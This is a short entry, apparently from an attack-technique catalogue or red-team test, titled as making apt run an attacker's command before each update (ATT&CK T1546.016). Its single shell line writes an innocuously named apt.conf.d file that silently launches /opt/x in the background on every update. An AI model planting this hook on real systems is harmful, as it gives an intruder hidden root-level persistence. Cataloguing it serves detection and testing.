# title: apt runs a command of the attacker's before each update
# technique: T1546.016

echo 'APT::Update::Pre-Invoke {"nohup /opt/x 2>/dev/null &"};' >/etc/apt/apt.conf.d/99sync
